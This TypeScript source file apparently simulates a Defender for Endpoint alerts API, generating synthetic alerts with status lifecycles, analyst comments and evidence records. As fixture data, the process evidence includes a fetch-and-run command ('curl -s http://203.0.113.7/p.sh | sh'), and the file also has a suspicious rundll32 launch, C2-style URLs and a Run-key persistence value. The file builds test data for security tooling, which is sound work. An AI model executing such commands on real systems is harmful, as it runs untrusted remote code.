import { ALERT_TEMPLATES, type AlertTemplate, type EvidenceType } from './alert-templates.js';
import { type DeviceCore, deviceCore, groupAt } from './device-profile.js';
import { userOf } from './logon-users.js';
import { lastIpOf } from './machine-generator.js';
import { deviceName } from './names.js';
import { below, hash2, hash3, hex8, pick, unit } from './random.js';
import { machineCountAt, type TenantContext } from './tenant-context.js';
import { DAY_MS, HOUR_MS, isoTime7, MINUTE_MS } from './time-format.js';
import { EvenSchedule, snapshotEpochAt } from './timeline.js';
import type { AlertEvidenceRecord, AlertRecord } from './types.js';

/**
 * Alerts (docs/mde-api.md#alerts): about one per five devices in the 30 days before the origin, then more at
 * the same rate. Each alert is a pure function of its index; its status moves New -> InProgress ->
 * Resolved over simulated time, and lastUpdateTime with it, so a `lastUpdateTime ge` watermark sees
 * it again at each step.
 */

const LOOKBACK_MS = 30 * DAY_MS;
/** .NET ticks at the Unix epoch: alert ids start with the creation time in ticks (`da637472900382838869_...`). */
const TICKS_AT_UNIX_EPOCH = 621_355_968_000_000_000n;
const ANALYSTS = [
  'secop123@contoso.com',
  'soc.analyst@contoso.com',
  'ir-team@contoso.com',
  'Automation',
] as const;
const TRUE_POSITIVE = [
  'MultiStagedAttack',
  'MaliciousUserActivity',
  'CompromisedUser',
  'Malware',
  'Phishing',
  'UnwantedSoftware',
  'Other',
] as const;
const INFORMATIONAL = [
  'SecurityTesting',
  'LineOfBusinessApplication',
  'ConfirmedUserActivity',
  'Other',
] as const;
const FALSE_POSITIVE = ['Clean', 'InsufficientData', 'Other'] as const;

export class AlertSource {
  private readonly schedule: EvenSchedule | undefined;
  private readonly mask: number;

  constructor(private readonly ctx: TenantContext) {
    const atOrigin = ctx.initialDevices === 0 ? 0 : Math.max(1, Math.round(ctx.initialDevices / 5));
    this.schedule =
      atOrigin === 0 ? undefined : new EvenSchedule(ctx.originMs - LOOKBACK_MS, LOOKBACK_MS, atOrigin);
    this.mask = hash2(ctx.seeds.alert, 0x1d) | 0;
  }

  countAt(atMs: number): number {
    return this.schedule === undefined ? 0 : this.schedule.countAt(atMs);
  }

  *all(atMs: number): Generator<AlertRecord> {
    const count = this.countAt(atMs);
    for (let a = 0; a < count; a++) {
      const alert = this.alert(a, atMs);
      if (alert !== undefined) yield alert;
    }
  }

  byId(id: string, atMs: number): AlertRecord | undefined {
    const match = /^da\d{18}_(-?\d{1,10})$/.exec(id);
    if (match === null) return undefined;
    const index = (Number(match[1]) ^ this.mask) >>> 0;
    if (index >= this.countAt(atMs)) return undefined;
    const alert = this.alert(index, atMs);
    return alert?.id === id ? alert : undefined;
  }

  /** The device an alert fires on: an onboarded, reporting device that existed at creation. */
  private machineOf(a: number, createdMs: number): DeviceCore | undefined {
    const n = machineCountAt(this.ctx, createdMs);
    if (n === 0) return undefined;
    const first = below(hash2(this.ctx.seeds.alertMachine, a), n);
    for (let probe = 0, m = first; probe < 40; probe++, m = (m + 1) % n) {
      const core = deviceCore(this.ctx, m);
      if (core.hasTvm && core.firstSeenMs < createdMs && core.stopMs > createdMs) return core;
    }
    // Practically unreachable; keeps "one alert per index" exact for countAt.
    return deviceCore(this.ctx, first);
  }

  alert(a: number, atMs: number): AlertRecord | undefined {
    if (this.schedule === undefined || a < 0 || a >= this.countAt(atMs)) return undefined;
    const ctx = this.ctx;
    const s = ctx.seeds.alert;
    const createdMs = this.schedule.timeOf(a);
    const core = this.machineOf(a, createdMs);
    if (core === undefined) return undefined;
    const windows = core.os.family === 'windows';
    let template: AlertTemplate = pick(ALERT_TEMPLATES, hash3(s, a, 1));
    for (let k = 2; template.windowsOnly && !windows && k < 12; k++)
      template = pick(ALERT_TEMPLATES, hash3(s, a, k));
    const sub = hash3(s, a, 20) % 10_000;
    const firstEventMs = createdMs - (10_000 + below(hash3(s, a, 21), 5 * MINUTE_MS));
    const lastEventMs = firstEventMs + below(hash3(s, a, 22), createdMs - firstEventMs);
    const createdUpdateMs = createdMs + 1000 + below(hash3(s, a, 23), 4000);

    // Lifecycle: 20% stay New; the rest are picked up, and most of those get resolved.
    const life = unit(hash3(s, a, 24));
    const inProgressMs =
      life < 0.2 ? Number.POSITIVE_INFINITY : createdMs + 10 * MINUTE_MS + below(hash3(s, a, 25), 2 * DAY_MS);
    const resolvedMs =
      life < 0.32 ? Number.POSITIVE_INFINITY : inProgressMs + HOUR_MS + below(hash3(s, a, 26), 7 * DAY_MS);
    const status: AlertRecord['status'] =
      atMs >= resolvedMs ? 'Resolved' : atMs >= inProgressMs ? 'InProgress' : 'New';
    const lastUpdateMs =
      status === 'Resolved' ? resolvedMs : status === 'InProgress' ? inProgressMs : createdUpdateMs;

    const unsupported = unit(hash3(s, a, 27)) < 0.2;
    const classU = unit(hash3(s, a, 28));
    const classification =
      status !== 'Resolved'
        ? null
        : classU < 0.5
          ? 'TruePositive'
          : classU < 0.75
            ? 'InformationalExpectedActivity'
            : 'FalsePositive';
    const determinationList =
      classification === 'TruePositive'
        ? TRUE_POSITIVE
        : classification === 'FalsePositive'
          ? FALSE_POSITIVE
          : INFORMATIONAL;
    const determination = classification === null ? null : pick(determinationList, hash3(s, a, 29));
    const investigationState = unsupported
      ? 'UnsupportedAlertType'
      : status === 'New'
        ? 'Queued'
        : status === 'InProgress'
          ? 'Running'
          : classification === 'TruePositive'
            ? 'SuccessfullyRemediated'
            : 'Benign';
    const analyst = pick(ANALYSTS, hash3(s, a, 30));
    const comments: AlertRecord['comments'] = [];
    if (status !== 'New') {
      comments.push({
        comment: 'Investigating this alert.',
        createdBy: analyst,
        createdTime: isoTime7(inProgressMs + 5 * MINUTE_MS, sub),
      });
    }
    if (status === 'Resolved') {
      comments.push({
        comment: `Resolved as ${classification}.`,
        createdBy: analyst,
        createdTime: isoTime7(resolvedMs, sub),
      });
    }
    const user = userOf(ctx, core, 0);
    const name = deviceName(ctx, core);
    const ticks = TICKS_AT_UNIX_EPOCH + BigInt(createdMs) * 10_000n + BigInt(sub);
    return {
      id: `da${ticks}_${(a ^ this.mask) | 0}`,
      incidentId: 7000 + Math.floor(a * 0.6),
      investigationId: unsupported ? null : 100_000 + (hash3(s, a, 31) % 900_000),
      assignedTo: status === 'New' ? null : analyst,
      severity: template.severity,
      status,
      classification,
      determination,
      investigationState,
      detectionSource: template.detectionSource,
      detectorId: template.detectorId,
      category: template.category,
      threatFamilyName: template.threatFamilyName,
      threatName: template.threatName,
      title: template.title,
      description: template.description,
      alertCreationTime: isoTime7(createdMs, sub),
      firstEventTime: isoTime7(firstEventMs, (sub * 7) % 10_000),
      lastEventTime: isoTime7(lastEventMs, (sub * 3) % 10_000),
      lastUpdateTime: isoTime7(lastUpdateMs, status === 'New' ? 0 : sub),
      resolvedTime: status === 'Resolved' ? isoTime7(resolvedMs, sub) : null,
      machineId: ctx.ids.idOf(core.index),
      computerDnsName: name.dnsName,
      rbacGroupName: groupAt(ctx, core, snapshotEpochAt(ctx.originMs, atMs)).name,
      aadTenantId: ctx.options.tenantId,
      mitreTechniques: [...template.mitreTechniques],
      relatedUser:
        unit(hash3(s, a, 32)) < 0.3 ? null : { userName: user.accountName, domainName: user.domainName },
      comments,
      evidence: template.evidence.map((type, k) => this.evidence(type, a, k, core, createdMs, firstEventMs)),
    };
  }

  private evidence(
    type: EvidenceType,
    a: number,
    k: number,
    core: DeviceCore,
    createdMs: number,
    eventMs: number,
  ): AlertEvidenceRecord {
    const s = this.ctx.seeds.alert;
    const h = hash3(s, a, 100 + k);
    const sha1 =
      hex8(h) +
      hex8(hash3(s, a, 200 + k)) +
      hex8(hash3(s, a, 300 + k)) +
      hex8(hash3(s, a, 400 + k)) +
      hex8(hash3(s, a, 500 + k));
    const sha256 =
      sha1 + hex8(hash3(s, a, 600 + k)) + hex8(hash3(s, a, 700 + k)) + hex8(hash3(s, a, 800 + k));
    const windows = core.os.family === 'windows';
    const record: AlertEvidenceRecord = {
      entityType: type,
      evidenceCreationTime: isoTime7(createdMs + 700 + k * 100, h % 10_000),
      detectionStatus: null,
      sha1: null,
      sha256: null,
      fileName: null,
      filePath: null,
      processId: null,
      processCommandLine: null,
      processCreationTime: null,
      parentProcessId: null,
      parentProcessCreationTime: null,
      parentProcessFileName: null,
      parentProcessFilePath: null,
      ipAddress: null,
      url: null,
      registryKey: null,
      registryHive: null,
      registryValueType: null,
      registryValue: null,
      accountName: null,
      domainName: null,
      userSid: null,
      aadUserId: null,
      userPrincipalName: null,
    };
    switch (type) {
      case 'File':
        record.detectionStatus = (h & 1) === 0 ? 'Detected' : 'Prevented';
        record.sha1 = sha1;
        record.sha256 = sha256;
        record.fileName = windows
          ? `${pick(['suspicious', 'invoice', 'update', 'setup'], h >>> 4)}.dll`
          : 'payload.sh';
        record.filePath = windows ? 'c:\\temp' : '/tmp';
        break;
      case 'Process':
        record.detectionStatus = 'Detected';
        record.sha1 = sha1;
        record.sha256 = sha256;
        record.fileName = windows ? 'rundll32.exe' : 'bash';
        record.filePath = windows ? 'C:\\Windows\\SysWOW64' : '/usr/bin';
        record.processId = 1000 + (h % 30_000);
        record.processCommandLine = windows
          ? 'rundll32.exe  c:\\temp\\suspicious.dll,RepeatAfterMe'
          : 'bash -c "curl -s http://203.0.113.7/p.sh | sh"';
        record.processCreationTime = isoTime7(eventMs, h % 10_000);
        record.parentProcessId = 500 + (hash3(s, a, 900 + k) % 9000);
        record.parentProcessCreationTime = isoTime7(eventMs - 57, (h >>> 8) % 10_000);
        record.parentProcessFileName = windows ? 'explorer.exe' : 'sshd';
        record.parentProcessFilePath = windows ? 'C:\\Windows' : '/usr/sbin';
        break;
      case 'User': {
        const user = userOf(this.ctx, core, 0);
        record.accountName = user.accountName;
        record.domainName = user.domainName;
        record.userSid = user.userSid;
        record.aadUserId = user.aadUserId;
        record.userPrincipalName = user.userPrincipalName;
        break;
      }
      case 'Ip':
        record.ipAddress = k % 2 === 0 ? `203.0.113.${1 + (h % 254)}` : lastIpOf(this.ctx, core.index);
        break;
      case 'Url':
        record.url = `http://${pick(['malicious-example', 'c2-relay', 'cdn-update-check', 'login-verify'], h)}.example.net/${hex8(h).slice(0, 6)}`;
        break;
      case 'Registry':
        record.registryKey = 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run';
        record.registryHive = 'HKEY_LOCAL_MACHINE';
        record.registryValueType = 'String';
        record.registryValue = `C:\\Users\\Public\\${hex8(h).slice(0, 6)}.exe`;
        break;
    }
    return record;
  }
}
